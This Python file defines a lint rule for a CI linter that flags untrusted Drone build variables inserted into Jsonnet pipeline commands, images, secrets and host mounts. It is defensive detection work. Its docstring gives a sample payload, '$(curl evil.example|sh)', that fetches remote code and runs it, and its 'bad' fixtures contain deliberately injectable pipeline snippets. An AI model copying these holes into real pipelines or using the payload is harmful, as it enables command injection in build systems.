"""Untrusted text that a Jsonnet program inserts into its pipelines."""

from __future__ import annotations

from drone_lint.api import CWE, OWASP, Confidence, Jsonnet, Settings, Severity, Trigger
from drone_lint_rules.injection._arriving import ArrivalRule


class JsonnetInjection(ArrivalRule):
    r"""A Jsonnet program inserts untrusted text into a pipeline.

    `std.extVar('build.message')`, `build.title`, `build.author_*`, `build.source` and similar variables contain text of users without any permissions, and `build.param.*` contains
    values that the user who starts a build chooses. In `commands` such text is shell code: `'echo "' + std.extVar('build.message') + '"'` with the message `$(curl evil.example|sh)`
    runs that command. In `image` the text decides which image runs, in `from_secret` which secret the step gets, and in `host.path` what is mounted from the host.

    Other keys are affected, too: the server escapes the text in the JSON that it generates, but the runner then replaces `${...}` and removes backslashes in all of
    that JSON. A message that contains `\"` then ends the string and can add keys.

    drone-lint tracks the value through functions, formats and libraries. A value that is only compared (`if std.extVar('build.branch') == 'main'`) is not reported, unless it decides `privileged`.
    Branch names are reported outside commands, images and similar keys only by the pedantic profile; build parameters are notices.

    Let the shell read the variable from its environment, in double quotes: `"$DRONE_COMMIT_MESSAGE"`.
    """

    name = "jsonnet-injection"
    language = "jsonnet"
    choice = "if ... then 'a' else 'b'"
    severity = Severity.WARNING
    confidence = Confidence.MEDIUM
    trigger = Trigger(fact="Arrival")
    why = "the server escapes the text only for JSON: the shell still reads it as code, and runners replace `${...}` and backslashes in it"
    references = (OWASP.CICD_SEC_4, CWE(78), CWE(94))

    bad = (
        Jsonnet("""
        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
          { name: 'direct', image: 'alpine:3.20', commands: [
            'echo "' + std.extVar('build.message') + '"',  // <- jsonnet-injection
            'make',
          ] },
        ] }
        """),
        Jsonnet(
            """
        local title = std.strReplace(std.extVar('build.title'), '"', "'");
        local announce(text) = 'announce "%s"' % text;  // <- jsonnet-injection
        local parts = std.split(std.extVar('build.source'), '/');
        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
          {
            name: 'through functions',
            image: 'registry.example.com/ci:' + std.asciiLower(parts[std.length(parts) - 1]),  // <- jsonnet-injection
            commands: [
              announce(title),
              std.format('git fetch origin %(branch)s', { branch: std.extVar('build.branch') }),  // <- jsonnet-injection
              std.join(' ', ['make', std.extVar('build.param.TARGET')]),  // <- jsonnet-injection
            ],
            settings: {
              text: std.substr(std.extVar('build.author_name'), 0, 10),  // <- jsonnet-injection
              payload: std.manifestJsonEx({ t: std.extVar('build.message') }, ' '),  // <- jsonnet-injection
            },
          },
        ] }
        """
        ),
        Jsonnet("""
        local read(name) = std.extVar('build.' + name);
        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
          if read('event') == 'push' && read('branch') != 'main' then {
            name: 'computed',
            image: 'alpine:3.20',
            commands: ['echo'] + (if read('source') == 'x' then [] else [read('source')]),  // <- jsonnet-injection
          } else { name: 'none', image: 'alpine:3.20' },
        ] }
        """),
        Jsonnet("""
        local target = std.extVar('build.branch');
        {
          kind: 'pipeline',
          type: 'docker',
          name: 'choices',
          steps: [{
            name: 'deploy',
            image: 'alpine:3.20',
            environment: { TOKEN: { from_secret: 'token_' + target } },  // <- jsonnet-injection
            volumes: [{ name: 'cache', path: '/cache' }],
          }],
          volumes: [{ name: 'cache', host: { path: '/cache/' + target } }],  // <- jsonnet-injection
        }
        """),
        Jsonnet("""
        local said = std.length(std.findSubstr('[host]', std.extVar('build.message'))) > 0;
        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
          { name: 'decides', image: 'alpine:3.20', privileged: said },  // <- jsonnet-injection
        ] }
        """),
        Jsonnet(
            """
        local step = import 'step.libsonnet';
        { kind: 'pipeline', type: 'docker', name: 'a', steps: [step] }
        """,
            files=(("step.libsonnet", "{ name: 'a', image: 'alpine:3.20', commands: ['echo ' + std.extVar('build.message')] }\n"),),
            lines=(1,),
        ),
    )
    good = (
        Jsonnet(
            """
        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
          { name: 'tagged by its branch', image: 'plugins/docker:20', settings: { tags: [std.extVar('build.branch')] } },
        ] }
        """,
            settings=Settings(),
        ),
        Jsonnet("""
        local branch = std.extVar('build.branch');
        local event = std.extVar('build.event');
        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
          {
            name: 'decides only',
            image: if std.startsWith(branch, 'release/') then 'alpine:3.20' else 'alpine:3.19',
            privileged: branch == 'main',
            commands: [
              'echo "$DRONE_COMMIT_MESSAGE" ' + std.extVar('build.event') + std.extVar('build.commit') + std.extVar('repo.name'),
              'test ' + std.length(std.extVar('build.message')),
              if branch == 'main' then 'deploy ' + branch else 'echo no',
            ],
          },
          { name: 'fixed', image: 'alpine:3.20', commands: ['deploy ' + branch], when: { branch: ['main'] } },
        ] + (if std.length(std.extVar('build.title')) > 3 then [{ name: 'b', image: 'alpine:3.20', privileged: true }] else []) }
        """),
        Jsonnet("""
        // std.extVar('build.message')
        { kind: 'pipeline', type: 'docker', name: 'a', local unused = std.extVar('build.message'), steps: [
          { name: 'a', image: 'alpine:3.20', commands: ['echo hello'] },
        ] }
        """),
    )
